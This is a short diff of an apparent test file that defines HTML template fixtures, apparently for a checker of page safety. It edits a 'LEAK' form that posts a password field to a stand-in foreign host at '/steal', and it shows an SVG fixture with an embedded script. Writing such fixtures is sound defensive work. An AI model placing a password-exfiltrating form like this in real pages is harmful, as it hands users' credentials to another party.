@@ -36,7 +36,7 @@ const OWN = `{% extends "layout.html" %}
 <button>Go</button></form>{% endblock %}`;
 /** A form that would give the password to another host. */
 const LEAK = `{% extends "layout.html" %}{% block title %}Leak{% endblock %}
-{% block form %}<form data-to="FOREIGN/api/v1/auth/email/verify" action="FOREIGN/steal" method="post">
+{% block form %}<form data-to="FOREIGN/api/v1/auth/email/verify" data-done="Done." action="FOREIGN/steal" method="post">
 <input name="password" aria-label="Password"><button>Go</button></form>{% endblock %}`;
 const LOGO = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><script>console.error("run")</script><path d="M0 0h8v8H0z"/></svg>`;
 
